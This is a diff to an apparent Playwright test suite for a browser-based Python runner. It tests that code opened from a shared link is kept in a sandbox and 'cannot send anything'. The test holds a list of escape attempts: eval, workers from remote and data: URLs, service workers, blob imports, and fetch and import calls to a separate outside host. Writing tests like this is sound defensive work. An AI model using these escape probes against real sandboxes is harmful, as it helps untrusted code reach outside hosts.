@@ -113,7 +113,7 @@ _CODE = """
 import sys, js, asyncio
 from pyodide.ffi import to_js
 
-THERE, HERE = {there!r}, {here!r}
+THERE, HERE, PAGE = {there!r}, {here!r}, {page!r}
 SCRIPT = {script!r}
 
 def blob(text):
@@ -181,7 +181,7 @@ ATTACKS = {{
     "eval": lambda: js.eval("1"),
     "function": lambda: js.Function.new("return 1")(),
     "worker there": lambda: heard(js.Worker.new(THERE + "/worker")),
-    "worker here": lambda: heard(js.Worker.new(HERE + "/python/worker.js")),
+    "worker here": lambda: heard(js.Worker.new(PAGE + "/python/worker.js")),
     "worker data": lambda: heard(js.Worker.new("data:text/javascript,postMessage(1)")),
     "shared worker": lambda: js.SharedWorker.new(blob("1")),
     "service worker": lambda: js.navigator.serviceWorker.register(HERE + "/service-worker.js"),
@@ -255,7 +255,7 @@ const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javasc
     tried("js fetch", () => fetch("THERE/js-fetch")),
     tried("js opaque", () => fetch("THERE/js-opaque", { mode: "no-cors" })),
     tried("js import", () => import("THERE/js-import")),
-    tried("js import here", () => import("HERE/page/dom.js")),
+    tried("js import here", () => import("PAGE/page/dom.js")),
     tried("js blob import", () => import(blob("await fetch('THERE/js-blob-import')"))),
     tried("js scripts", () => importScripts("THERE/js-scripts")),
     tried("js caches", () => caches.open("taquin")),
@@ -277,11 +277,12 @@ const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javasc
 """
 
 
-def _attack(there: str, here: str) -> str:
-    plain = _SCRIPT.replace("THERE", there).replace("HERE", here)
+def _attack(there: str, site: Site) -> str:
+    here, page = site.address, site.scripts
+    plain = _SCRIPT.replace("THERE", there).replace("HERE", here).replace("PAGE", page)
     inner = plain.replace("DEPTH", "0").replace("SOURCE", '""')
     script = plain.replace("DEPTH", "1").replace("SOURCE", json.dumps(inner))
-    return _CODE.format(there=there, here=here, script=script)
+    return _CODE.format(there=there, here=here, page=page, script=script)
 
 
 def allow(page: Page) -> None:
@@ -343,7 +344,7 @@ def test_code_of_a_link_sends_keeps_and_reaches_nothing(
         page.locator("#panel > *").first.wait_for()
         if not python_site.has_server:
             until(page, lambda: bool(page.evaluate(_IS_KEPT)))
-        page.goto(python_site.address + link_to(_attack(elsewhere.address, python_site.address)))
+        page.goto(python_site.address + link_to(_attack(elsewhere.address, python_site)))
         asking = page.get_by_label("Code of the link")
         expect(asking).to_contain_text("runs only after your click")
         expect(asking).to_contain_text("cannot send anything")
